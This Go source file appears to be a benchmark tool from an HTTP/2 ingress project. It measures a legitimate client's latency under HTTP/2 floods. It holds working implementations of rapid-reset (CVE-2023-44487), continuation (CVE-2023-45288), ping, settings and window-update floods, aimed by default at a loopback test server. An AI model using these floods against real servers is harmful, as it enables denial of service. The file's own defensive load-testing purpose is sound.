// Command h2flood measures what an HTTP/2 flood does to the latency of another client:
// one legitimate h2c connection sends GET -path back to back for -d with nobody else,
// then again for -d while -attackers connections flood the server (each reconnecting
// whenever the server ends it), and it prints both latency distributions and their
// ratio.
//
// Attacks (-attack): rapid-reset (HEADERS then RST_STREAM, CVE-2023-44487), ping,
// settings, window-update (on the connection, increment 1), continuation (a header
// block that never ends, CVE-2023-45288).
//
// The attackers dial from -from (127.0.0.2 by default; Linux routes all of 127/8 to
// lo), the legitimate client from the default source address: the ingress penalises the
// address of a client it ends for abuse (refused at accept for a while), as a real edge
// separates clients by address. -from "" sends both from the same address, and the
// legitimate client is then penalised with the attackers.
//
// With -preopen N it runs the pre-opened flood of issue 25 instead (preopen.go): N
// connections opened first, then HEADERS+RST_STREAM on all of them, with HTTP/1.1 and
// HTTP/2 bystanders and the server's and target's figures (bench/flood.sh runs it
// against the ingress, nginx and HAProxy).
//
// Output (the -attack mode):
//
//	quiet:  N requests, p50 A ms, p99 B ms
//	attack: N requests, p50 A ms, p99 B ms (attack: C connections, D frames)
//	p99 ratio: R
package main

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"slices"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/serve-zone/ingress/internal/floodtest"
)

type config struct {
	addr, host, path, attack string
	from                     string // the attackers' source address; "" for the default
	attackers                int
	duration                 time.Duration
	pre                      preopenConfig // the -preopen mode (preopen.go)
}

func parseFlags(args []string) (config, error) {
	var c config
	fs := flag.NewFlagSet("h2flood", flag.ContinueOnError)
	fs.StringVar(&c.addr, "addr", "127.0.0.1:8080", "h2c address of the server")
	fs.StringVar(&c.host, "host", "bench.test", ":authority of the requests")
	fs.StringVar(&c.path, "path", "/64", "path of the legitimate requests")
	fs.StringVar(&c.attack, "attack", "rapid-reset", "rapid-reset, ping, settings, window-update or continuation")
	fs.StringVar(&c.from, "from", "127.0.0.2", `source address of the attackers ("" for the default)`)
	fs.IntVar(&c.attackers, "attackers", 4, "flooding connections at once")
	fs.DurationVar(&c.duration, "d", 5*time.Second, "duration of each phase (-preopen: of the flood)")
	fs.IntVar(&c.pre.conns, "preopen", 0, "pre-opened flood (issue 25): connections the attacker opens before flooding (0: the -attack mode)")
	fs.StringVar(&c.pre.over, "over", "h2c", "-preopen: the attacker's protocol, h2c (to -h2c-addr) or tls (h2 over TLS to -tls-addr)")
	fs.StringVar(&c.pre.h2cAddr, "h2c-addr", "", "-preopen: h2c address of the server (default -addr)")
	fs.StringVar(&c.pre.tlsAddr, "tls-addr", "", "-preopen: TLS (ALPN h2) address of the server: the HTTP/2 bystander's, and the attacker's with -over tls")
	fs.StringVar(&c.pre.sni, "sni", "", "-preopen: TLS server name (default -host)")
	fs.StringVar(&c.pre.floodPath, "flood-path", "/flood", "-preopen: :path of the flooding streams (bench/target counts /flood)")
	fs.DurationVar(&c.pre.quiet, "quiet", 3*time.Second, "-preopen: the bystanders' quiet window before the attack")
	fs.StringVar(&c.pre.targetCounts, "target-counts", "", "-preopen: bench/target's counters URL (http://127.0.0.1:PORT/_counts; empty: not read)")
	fs.StringVar(&c.pre.metrics, "metrics", "", "-preopen: the server's Prometheus /metrics URL for heap and goroutines (empty: none)")
	fs.IntVar(&c.pre.pid, "pid", 0, "-preopen: the server's process group, for RSS, descriptors and CPU from /proc (0: none)")
	fs.IntVar(&c.pre.targetPID, "target-pid", 0, "-preopen: the target's process group, for its CPU (0: none)")
	fs.StringVar(&c.pre.name, "name", "server", "-preopen: the server's name in the output")
	fs.IntVar(&c.pre.nice, "attacker-nice", 10, "-preopen: niceness of the attacker's process during the flood (0: as this one; its connections are opened at this one's)")
	if err := fs.Parse(args); err != nil {
		return c, err
	}
	if c.pre.h2cAddr == "" {
		c.pre.h2cAddr = c.addr
	}
	if c.pre.sni == "" {
		c.pre.sni = c.host
	}
	if err := c.pre.check(c); err != nil {
		return c, err
	}
	if _, ok := attacks[c.attack]; !ok {
		return c, fmt.Errorf("unknown attack %q", c.attack)
	}
	if c.attackers < 1 || c.duration <= 0 {
		return c, fmt.Errorf("-attackers and -d must be positive")
	}
	if c.from != "" && net.ParseIP(c.from) == nil {
		return c, fmt.Errorf("-from %q is not an IP address", c.from)
	}
	return c, nil
}

// attack sends one burst of flood frames on fr; i counts bursts on this connection.
type attack func(fr *http2.Framer, block []byte, i int) error

var attacks = map[string]attack{
	"rapid-reset": func(fr *http2.Framer, block []byte, i int) error {
		id := uint32(2*i + 1)
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		return fr.WriteRSTStream(id, http2.ErrCodeCancel)
	},
	"ping":          func(fr *http2.Framer, _ []byte, i int) error { return fr.WritePing(false, [8]byte{byte(i)}) },
	"settings":      func(fr *http2.Framer, _ []byte, _ int) error { return fr.WriteSettings() },
	"window-update": func(fr *http2.Framer, _ []byte, _ int) error { return fr.WriteWindowUpdate(0, 1) },
	"continuation": func(fr *http2.Framer, block []byte, i int) error {
		if i == 0 {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:1]})
		}
		return fr.WriteContinuation(1, false, nil)
	},
}

func main() {
	if floodtest.RunChild(attackerEnv) {
		return
	}
	c, err := parseFlags(os.Args[1:])
	if err != nil {
		log.Fatal(err)
	}
	if c.pre.conns > 0 {
		if err := runPreopen(os.Stdout, c, c.pre); err != nil {
			log.Fatal(err)
		}
		return
	}
	quiet, err := legit(context.Background(), c)
	if err != nil {
		log.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	var conns, frames atomic.Int64
	var wg sync.WaitGroup
	for range c.attackers {
		wg.Go(func() { flood(ctx, c, &conns, &frames) })
	}
	loud, err := legit(ctx, c)
	cancel()
	wg.Wait()
	if err != nil {
		log.Fatal(err)
	}
	q50, q99 := percentiles(quiet)
	a50, a99 := percentiles(loud)
	fmt.Printf("quiet:  %d requests, p50 %.3f ms, p99 %.3f ms\n", len(quiet), q50, q99)
	fmt.Printf("attack: %d requests, p50 %.3f ms, p99 %.3f ms (%s: %d connections, %d frames)\n", len(loud), a50, a99, c.attack, conns.Load(), frames.Load())
	fmt.Printf("p99 ratio: %.2f\n", a99/q99)
}

// legit sends GETs back to back on one h2c connection for c.duration and returns their
// latencies.
func legit(ctx context.Context, c config) ([]time.Duration, error) {
	p := new(http.Protocols)
	p.SetUnencryptedHTTP2(true)
	tr := &http.Transport{
		Protocols: p,
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, "tcp", c.addr)
		},
	}
	defer tr.CloseIdleConnections()
	url := "http://" + c.host + c.path
	var lat []time.Duration
	end := time.Now().Add(c.duration)
	for time.Now().Before(end) {
		req, _ := http.NewRequestWithContext(context.WithoutCancel(ctx), http.MethodGet, url, nil)
		t0 := time.Now()
		res, err := tr.RoundTrip(req)
		if err != nil {
			return nil, err
		}
		_, _ = io.Copy(io.Discard, res.Body)
		res.Body.Close()
		if res.StatusCode != http.StatusOK {
			return nil, fmt.Errorf("status %d", res.StatusCode)
		}
		lat = append(lat, time.Since(t0))
	}
	return lat, nil
}

// flood opens connections and floods each until the server ends it, until ctx ends.
func flood(ctx context.Context, c config, conns, frames *atomic.Int64) {
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", c.host}, {":path", c.path}} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	block := hb.Bytes()
	send := attacks[c.attack]
	d := &net.Dialer{}
	if c.from != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(c.from)}
	}
	for ctx.Err() == nil {
		nc, err := d.DialContext(ctx, "tcp", c.addr)
		if err != nil {
			return
		}
		conns.Add(1)
		stop := context.AfterFunc(ctx, func() { nc.Close() })
		go func() { _, _ = io.Copy(io.Discard, nc) }() // a reading client: the server's answers flow
		fr := http2.NewFramer(nc, nil)
		_, err = nc.Write([]byte(http2.ClientPreface))
		if err == nil {
			err = fr.WriteSettings()
		}
		for i := 0; err == nil; i++ {
			err = send(fr, block, i)
			frames.Add(1)
		}
		stop()
		nc.Close()
	}
}

func percentiles(d []time.Duration) (p50, p99 float64) {
	if len(d) == 0 {
		return 0, 0
	}
	s := slices.Clone(d)
	slices.Sort(s)
	ms := func(q float64) float64 { return float64(s[int(q*float64(len(s)-1))]) / float64(time.Millisecond) }
	return ms(0.50), ms(0.99)
}
